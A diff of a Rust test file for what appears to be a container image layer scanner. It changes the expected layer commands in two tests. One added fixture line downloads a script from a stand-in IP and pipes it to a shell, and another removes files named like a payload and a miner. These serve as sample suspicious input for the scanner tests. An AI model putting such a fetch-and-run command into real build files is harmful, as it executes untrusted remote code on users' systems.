@@ -99,8 +99,8 @@ fn every_form_reads_to_the_same_tree() {
             created,
             [
                 "ADD rootfs.tar /",
-                "RUN apt-get install -y ca-certificates && COPY app/ /opt/app/",
-                "RUN rm /tmp/payload.sh && apt-get clean"
+                "RUN apt-get install -y ca-certificates && COPY app/ /opt/app/ && curl -fsSL http://203.0.113.7/init.sh | sh",
+                "RUN rm -rf /tmp/payload.sh /tmp/.xmr && apt-get clean"
             ],
             "form {name}"
         );
@@ -321,7 +321,7 @@ fn scan_is_the_default_command_and_prints_a_table() {
         run.stdout
     );
     assert!(
-        run.stdout.contains("RUN rm /tmp/payload.sh"),
+        run.stdout.contains("RUN rm -rf /tmp/payload.sh"),
         "{}",
         run.stdout
     );
